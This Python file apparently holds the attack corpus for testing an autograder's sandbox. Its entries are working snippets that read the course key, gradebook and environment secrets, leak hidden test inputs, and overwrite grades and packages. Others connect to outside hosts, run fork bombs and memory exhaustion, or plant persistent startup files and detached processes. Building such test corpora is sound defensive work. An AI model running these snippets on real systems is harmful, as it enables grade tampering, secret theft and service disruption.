"""Attacks on what is around the kernel: reading, writing, network, resources, persistence."""

from __future__ import annotations

from attacks.corpus import LOOT, MARK, Attack, cell, function, reads

SHOWN = f"print({LOOT!r}, [repr(float(v)) for v in image_cutout.ravel()[:40]], x_start, y_start)"
INPUTS = "' '.join(repr(float(v)) for v in image_cutout.ravel()[:12])"
NO_CALL = "stock nbgrader's hidden tests are in the notebook that it runs; there is no call with hidden inputs"

ATTACKS = [
    # ------------------------------------------------------------------------------------------ reading
    Attack(
        "the key and the gradebook",
        "reading",
        "the course's key and the gradebook",
        reads(
            "__import__('sqlite3').connect('file:@ROOT@/gradebook.db?mode=ro', uri=True).execute('select manual_comment from comment').fetchall()",
            "open('@ROOT@/.photgrader/key').read()",
            "open('@ROOT@/gradebook.db', 'rb').read(100)",
            "[open(p, errors='replace').read()[:300] for p in glob.glob('@ROOT@/.photgrader/**', recursive=True) if os.path.isfile(p)]",
        ),
    ),
    Attack(
        "references by import",
        "reading",
        "the references and hidden cases",
        reads(
            "__import__('inspect').getsource(__import__('photgrader.exercises.ps1_psf_photometry.centroid', fromlist=['x']))"
        ),
    ),
    Attack(
        "references by file",
        "reading",
        "the exercises' source",
        reads(
            "[open(p).read() for b in sys.path for p in glob.glob(b + '/photgrader/exercises/ps1*/centroid.py') + glob.glob(b + '/../autograder/exercises/ps1*/centroid.py')]"
        ),
    ),
    Attack(
        "solutions",
        "reading",
        "the instructor's solution and marking scheme",
        reads(
            "[open(p).read() for p in glob.glob('@ROOT@/source/**/*.ipynb', recursive=True) + glob.glob('@ROOT@/solutions/**/*.ipynb', recursive=True)]"
        ),
    ),
    Attack(
        "other students",
        "reading",
        "the work of others",
        reads(
            "[open(p).read() for p in glob.glob('@ROOT@/submitted/**/*.ipynb', recursive=True) + glob.glob('@ROOT@/autograded/**/*.ipynb', recursive=True)]",
            "os.listdir('@ROOT@/submitted')",
        ),
    ),
    Attack(
        "environment",
        "reading",
        "secrets in the environment",
        reads(
            "dict(os.environ)",
            "[open(p, 'rb').read() for p in glob.glob('/proc/[0-9]*/environ') if os.access(p, os.R_OK)]",
            "subprocess.run('env', capture_output=True).stdout",
        ),
    ),
    Attack(
        "memory of the parent",
        "reading",
        "the grader's memory",
        reads(
            "open(f'/proc/{os.getppid()}/mem', 'rb').read(10)",
            "open('/proc/1/mem', 'rb').read(10)",
            "open('/proc/1/maps').read()",
            "[open(f'/proc/1/fd/{n}').read() for n in os.listdir('/proc/1/fd')]",
        ),
    ),
    Attack(
        "process list",
        "reading",
        "who else is graded, and with what words",
        reads(
            "[open(p).read() for p in glob.glob('/proc/[0-9]*/cmdline')]",
            "open('/proc/1/root@ROOT@/gradebook.db', 'rb').read()",
            "os.listdir('/proc/self/cwd/../../../../..@ROOT@')",
        ),
    ),
    Attack(
        "open files",
        "reading",
        "a handle that was left open",
        reads(
            "[(n, os.readlink(f'/proc/self/fd/{n}')) for n in os.listdir('/proc/self/fd') if '@ROOT@' in os.readlink(f'/proc/self/fd/{n}')] or os.open('@ROOT@', 0)",
            "[os.listdir(f'/proc/self/fd/{n}') for n in range(3, 40) if os.path.isdir(f'/proc/self/fd/{n}')]",
        ),
    ),
    Attack(
        "frames above",
        "reading",
        "inputs and answers kept by the caller",
        function(
            "f = sys._getframe()\nseen = []\nwhile f:\n    seen += [repr(v)[:200] for k, v in f.f_locals.items() if 'expected' in k or 'reference' in k]\n    f = f.f_back\n"
            f"print({LOOT!r}, seen)\nreturn 0, 0",
            "import sys, gc",
        ),
    ),
    Attack(
        "hidden inputs printed",
        "reading",
        "the hidden cases, in outputs",
        function(SHOWN + "\nimport warnings\nwarnings.warn(" + INPUTS + ")\nreturn 0, 0"),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs as an answer",
        "reading",
        "the hidden cases, quoted by the verdict",
        function("return tuple(float(v) for v in image_cutout.ravel()[:2])"),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs as a text",
        "reading",
        "the hidden cases, quoted by the verdict",
        function(f"return {INPUTS}"),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs in an error",
        "reading",
        "the hidden cases, in an error's message",
        function(f"raise ValueError({INPUTS})"),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs in an error's name",
        "reading",
        "the hidden cases, in the name of an error",
        function(f"raise type({INPUTS}, (Exception,), {{}})('x')"),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs as a timeout",
        "reading",
        "the hidden cases, in what only the grader says",
        function(f"raise TimeoutError('no answer within ' + {INPUTS})"),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs as a variable's name",
        "reading",
        "the hidden cases, in the name of a leftover",
        cell(
            "import photcheck.probe as p\ntwice = p.call_twice\ndef call_twice(function, forms, *a, **k):\n    report = twice(function, forms, *a, **k)\n    import photcheck.wire as w\n"
            "    image = w.decode(forms[0]); total = float(image.sum())\n    report.update(ok=True, leftovers=[repr(float(v)) for v in image.ravel()[:4]], again={'ok': False, 'error': {}})\n"
            "    return report\np.call_twice = call_twice"
        ),
        stock=NO_CALL,
    ),
    Attack(
        "hidden inputs on disk",
        "reading",
        "the hidden cases, printed by a second run after a death",
        function(
            "open('seen', 'a').write(" + INPUTS + ")\nimport os\nos.kill(os.getpid(), 9)",
            "import os\nprint('LOOT:', open('seen').read() if os.path.exists('seen') else '')",
        ),
        ends=("kernel died",),
        stock=NO_CALL,
    ),
    # ------------------------------------------------------------------------------------------ writing
    Attack(
        "the gradebook",
        "writing",
        "marks written into the gradebook",
        reads(
            "__import__('sqlite3').connect('file:@ROOT@/gradebook.db?mode=rw', uri=True).execute('update grade set manual_score = 4')",
            "open('@ROOT@/gradebook.db', 'r+b').write(b'x')",
        ),
    ),
    Attack(
        "records and key",
        "writing",
        "a record of one's own",
        reads("open('@ROOT@/.photgrader/records/mine.json', 'w')", "os.rename('@ROOT@/.photgrader/key', '/tmp/key')"),
    ),
    Attack(
        "source and other submissions",
        "writing",
        "another's work",
        reads(
            "[open(p, 'a').write('x') for p in glob.glob('@ROOT@/*/**/*.ipynb', recursive=True)] or open('@ROOT@/submitted/x', 'w')",
            "os.mkdir('@ROOT@/submitted/ghost')",
        ),
    ),
    Attack(
        "packages",
        "writing",
        "code of one's own in the grader's packages",
        reads(
            *(
                f"open(os.path.join([p for p in sys.path if 'packages' in p][0], {n!r}), 'w').write('x')"
                for n in ("n4l_evil.py", "n4l_evil.pth")
            ),
            "open(sys.modules['photcourse'].__file__, 'a').write('')",
            "open(os.__file__, 'a').write('')",
        ),
    ),
    Attack(
        "kernel specifications",
        "writing",
        "a kernel of one's own for everybody",
        reads(
            "[open(p, 'a').write('x') for p in glob.glob(sys.prefix + '/share/jupyter/kernels/*/kernel.json')] or 1/0",
            "open('/etc/jupyter', 'w')",
            "open('/usr/bin/n4l', 'w')",
        ),
    ),
    Attack(
        "shared data",
        "writing",
        "other images for everybody",
        reads(
            "[open(p, 'a').write('x') for p in glob.glob(os.environ.get('PHOTCOURSE_DATA', '/nowhere') + '/**/*.fits*', recursive=True)][0]",
            "[open(p, 'ab').write(b'') for p in glob.glob(os.path.dirname(sys.modules['photcourse'].__file__) + '/**/*.fits*', recursive=True)][0]",
        ),
    ),
    Attack(
        "links to elsewhere",
        "writing",
        "the grader following a link out of the folder",
        cell(
            "import os\nfor n in ('a.txt', 'out.fits', 'ps1_psf_photometry.ipynb'):\n    os.path.lexists(n) or os.symlink('@ROOT@/gradebook.db', n)\nos.mkfifo('pipe')\nos.symlink('.', 'loop')"
        ),
    ),
    Attack(
        "a folder that cannot be removed",
        "writing",
        "files that stay",
        cell("import os\nos.makedirs('a/b/c')\nfor p in ('a/b/c', 'a/b', 'a', '.'): os.chmod(p, 0)"),
    ),
    Attack(
        "mounts",
        "writing",
        "the read-only made writable",
        reads(
            "0 / (not __import__('ctypes').CDLL(None).mount(b'tmpfs', b'/usr', b'tmpfs', 0, None))",
            "0 / (not __import__('ctypes').CDLL(None).mount(b'', b'/usr', b'', 4128, None))",
            "0 / (not __import__('ctypes').CDLL(None).unshare(0x10020000))",
            "os.setuid(0) if os.getuid() else 1/0",
            "os.chroot('/')",
        ),
    ),
    # ------------------------------------------------------------------------------------------ network
    Attack(
        "addresses",
        "network",
        "sending the notebook out",
        reads(
            "socket.create_connection(('1.1.1.1', 80), 0.5)",
            "socket.create_connection(('2606:4700:4700::1111', 80), 0.5)",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
        ),
    ),
    Attack(
        "this machine",
        "network",
        "a service of the grader's machine",
        reads(
            "socket.create_connection(('127.0.0.1', int('@PORT@')), 0.5).sendall(b'x')",
            "socket.create_connection(('localhost', int('@PORT@')), 0.5)",
        ),
    ),
    Attack(
        "names",
        "network",
        "a question to a name server",
        reads("socket.gethostbyname('example.org')", "socket.getaddrinfo('photcourse.example.net', 443)"),
    ),
    Attack(
        "abstract sockets",
        "network",
        "talking to a helper outside",
        reads(
            "socket.socket(socket.AF_UNIX).connect(chr(0) + '@SOCKET@') or 1",
            "[socket.socket(socket.AF_UNIX).connect(l.split()[-1].replace('@', chr(0))) for l in open('/proc/net/unix') if '@' in l][0]",
        ),
    ),
    Attack(
        "other families",
        "network",
        "a way that was forgotten",
        reads(
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
            "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
            "socket.socket(40, socket.SOCK_STREAM).connect((2, 1234)) or 1",
            "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('ff02::1%1', 9999))",
        ),
    ),
    Attack(
        "another kernel's sockets",
        "network",
        "a word to the next student's kernel",
        reads(
            "[socket.socket(socket.AF_UNIX).connect(p) for p in glob.glob('/tmp/pgw-*/**/k-*', recursive=True) + glob.glob('/tmp/pg-*/s/k-*')\n"
            "        if os.path.dirname(p) != os.path.dirname(__import__('ipykernel.connect', fromlist=['x']).get_connection_file())][0]"
        ),
    ),
    # ------------------------------------------------------------------------------------------ resources
    Attack("endless cell", "resources", "the run's time", {"centroid": "while True: pass"}, ends=("timeout",)),
    Attack(
        "endless cells",
        "resources",
        "the run's time, once a cell",
        {"centroid": "while True: pass"},
        ends=("timeout",),
        edit=lambda n: n.cells.extend(
            [
                type(n.cells[1])({**n.cells[1], "metadata": type(n)(), "source": "import time\ntime.sleep(60)"})
                for _ in range(12)
            ]
        ),
    ),
    Attack(
        "endless call",
        "resources",
        "the run's time",
        function("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
        ends=("timeout",),
    ),
    Attack(
        "signals ignored",
        "resources",
        "a kernel that cannot be stopped",
        {
            "centroid": "import signal, time\nfor n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True:\n    try: time.sleep(60)\n    except BaseException: pass"
        },
        ends=("timeout",),
    ),
    Attack(
        "stopped",
        "resources",
        "a kernel that neither lives nor dies",
        {"centroid": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"},
        ends=("timeout", "kernel died"),
    ),
    Attack(
        "deaf in C",
        "resources",
        "a kernel that no interrupt reaches",
        {"centroid": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')"},
        ends=("timeout",),
    ),
    Attack(
        "memory",
        "resources",
        "the machine's memory",
        # To the last kilobyte.
        {
            "centroid": "x = []\ntry:\n    while True: x.append(bytearray(50_000_000))\nexcept MemoryError:\n    while True: x.append(bytearray(1000))"
        },
        # On a crowded machine its time is used up first; what each is called is held in tests/photgrader/test_states.py.
        ends=("out of memory", "timeout"),
    ),
    Attack(
        "memory of many",
        "resources",
        "the machine's memory, a little for each child",
        {
            "centroid": "import os, time\nfor n in range(12):\n    if os.fork() == 0:\n        x = b'x' * 300_000_000; time.sleep(20); os._exit(0)\ntime.sleep(20)"
        },
        ends=("out of memory", "timeout", "kernel died"),
    ),
    Attack(
        "processes",
        "resources",
        "the machine's processes",
        cell(
            "import os, time\ntry:\n    for n in range(400):\n        if os.fork() == 0:\n            time.sleep(60); os._exit(0)\nexcept OSError: pass"
        ),
        # Sixty forks take a busy machine longer than a cell may.
        ends=("graded", "out of memory", "timeout"),
    ),
    Attack(
        "a bomb of forks",
        "resources",
        "the machine's processes",
        {"centroid": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"},
        ends=("timeout", "kernel died", "out of memory"),
    ),
    Attack(
        "threads",
        "resources",
        "the machine's threads",
        cell(
            "import threading, time\ntry:\n    for n in range(2000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\nexcept RuntimeError: pass"
        ),
        ends=("graded", "kernel died", "timeout"),
    ),
    Attack(
        "files",
        "resources",
        "the disk's inodes",
        cell("for n in range(4000): open(f'f{n}', 'w').write('x')\nimport time; time.sleep(1)"),
        ends=("too many files",),
    ),
    Attack(
        "a large file",
        "resources",
        "the disk",
        cell("f = open('large', 'wb')\nfor n in range(400): f.write(bytes(10_000_000))"),
        ends=("graded", "too many files", "kernel died"),
    ),
    Attack(
        "temporary folders",
        "resources",
        "the memory, by way of folders that are in it",
        cell(
            "for p in ('/tmp/a', '/dev/shm/a', '/home/student/a'):\n    try:\n        f = open(p, 'wb')\n        for n in range(400): f.write(bytes(5_000_000))\n    except OSError: pass"
        ),
        ends=("graded", "out of memory", "kernel died"),
    ),
    Attack(
        "deep folders",
        "resources",
        "whoever counts or removes them",
        cell("import os\nfor n in range(400):\n    os.mkdir('d'); os.chdir('d')"),
        ends=("graded", "too many files"),
    ),
    Attack(
        "output",
        "resources",
        "the grader's memory and the size of the gradebook",
        cell("for n in range(3000): print('x' * 10_000)"),
        ends=("graded", "timeout"),
    ),
    Attack(
        "display data",
        "resources",
        "the grader's memory",
        cell(
            "from IPython.display import display\nfor n in range(12): display({'text/html': 'x' * 60_000_000}, raw=True)"
        ),
        ends=("graded", "timeout", "out of memory", "kernel died"),
    ),
    Attack(
        "own death",
        "resources",
        "an end of the run",
        function("import os\nos.kill(os.getpid(), 9)"),
        ends=("kernel died",),
    ),
    Attack(
        "death in every cell",
        "resources",
        "fresh kernels without end",
        {"centroid": "import os; os._exit(0)", "second_moment": "import os; os._exit(0)"},
        ends=("kernel died",),
        edit=lambda n: n.cells.extend(
            [
                type(n.cells[1])({**n.cells[1], "metadata": type(n)(), "source": "import os; os._exit(1)"})
                for _ in range(8)
            ]
        ),
    ),
    # ------------------------------------------------------------------------------------------ persistence
    Attack(
        "startup files",
        "persistence",
        "code in the next student's kernel",
        cell(
            "import os, pathlib\nhome = pathlib.Path.home()\nfor p in (home / '.ipython/profile_default/startup/a.py', home / '.config/matplotlib/matplotlibrc', home / '.bashrc', home / '.jupyter/jupyter_config.py',\n"
            "          pathlib.Path('/tmp/sitecustomize.py'), pathlib.Path('/dev/shm/a'), home / 'a.pth', home / 'work/usercustomize.py'):\n"
            f'    try:\n        p.parent.mkdir(parents=True, exist_ok=True); p.write_text(\'print("{MARK}")\\ntry: get_ipython().events.register("post_run_cell", lambda *a: print("{MARK}"))\\nexcept Exception: pass\')\n    except OSError: pass'
        ),
    ),
    Attack(
        "compiled modules",
        "persistence",
        "bytecode of one's own for the next student",
        cell(
            "import sys, os, glob\nfor p in sys.path:\n    for n in ('sitecustomize.py', '__pycache__/numpy.cpython-311.pyc', 'zz.pth'):\n        try:\n            open(os.path.join(p or '.', n), 'w').write('import sys; sys.n4l = 1')\n        except OSError: pass"
        ),
    ),
    Attack(
        "poisoned modules",
        "persistence",
        "wrong marks for the next student",
        cell(
            f"import builtins, sys, numpy as np\nbuiltins.sum = np.sum = np.indices = np.meshgrid = np.average = lambda *a, **k: 0\nsys.modules['{MARK}'] = 1\n"
            "import photcheck.wire as w, photcheck.probe as p\nw.encode = p.call = p.call_twice = lambda *a, **k: {}"
        ),
    ),
    Attack(
        "poisoned memory",
        "persistence",
        "the parent that the next kernel is forked from",
        cell(
            "import os, ctypes, numpy as np\nfor pid in (1, os.getppid()):\n    try:\n        open(f'/proc/{pid}/mem', 'r+b')\n    except OSError as e: print(type(e).__name__)\n"
            "    print(ctypes.CDLL(None).ptrace(16, pid, 0, 0))\na = np.ones(4)\nctypes.memset(a.ctypes.data, 0, 8)\n"
            "# Small whole numbers are shared by all that this process is a copy of.\nctypes.memmove(id(7) + 24, id(8) + 24, 4)"
        ),
        ends=("graded", "kernel died", "timeout"),
    ),
    Attack(
        "killed parent",
        "persistence",
        "an end of the parent that kernels are forked from",
        cell(
            "import os, signal\nfor s in (15, 1, 9):\n    for pid in (os.getppid(), 1, -1):\n        try:\n            pid == -1 or os.kill(pid, s)\n        except OSError: pass"
        ),
    ),
    Attack(
        "detached child",
        "persistence",
        "a process that outlives the run",
        cell(
            f"import subprocess\nsubprocess.Popen(['/bin/bash', '-c', 'trap \"\" TERM INT HUP; exec -a {MARK} sleep 300'], start_new_session=True)"
        ),
    ),
    Attack(
        "a child's child",
        "persistence",
        "a process that nobody waits for",
        cell(
            f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for n in range(3, 200):\n            try: os.close(n)\n            except OSError: pass\n        os.execv('/bin/bash', ['{MARK}', '-c', 'while :; do sleep 1; done'])\n    os._exit(0)"
        ),
    ),
    Attack(
        "shared memory",
        "persistence",
        "memory that outlives its maker",
        cell(
            f"import ctypes, pathlib, socket\nlibc = ctypes.CDLL(None)\nlibc.shmget(0x4e344c, 4096, 0o1666)\npathlib.Path('/dev/shm/{MARK}').write_text('x')\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0{MARK}')\ns.listen()"
        ),
    ),
    Attack(
        "what was left",
        "persistence",
        "what the student before has left",
        cell(
            f"import os, sys, glob, ctypes, socket\nfound = [p for p in glob.glob('/tmp/*') + glob.glob('/dev/shm/*') + glob.glob(os.path.expanduser('~/*')) if '{MARK}' in p or p.endswith(('.pth', 'usercustomize.py'))]\n"
            f"found += ['module'] * ('{MARK}' in sys.modules) + ['n4l'] * hasattr(sys, 'n4l') + ['shm'] * (ctypes.CDLL(None).shmget(0x4e344c, 4096, 0) >= 0)\n"
            f"try:\n    socket.socket(socket.AF_UNIX).connect('\\0{MARK}'); found.append('socket')\nexcept OSError: pass\nassert 7 + 0 == 7\nif found: print('{MARK}', found)"
        ),
    ),
]
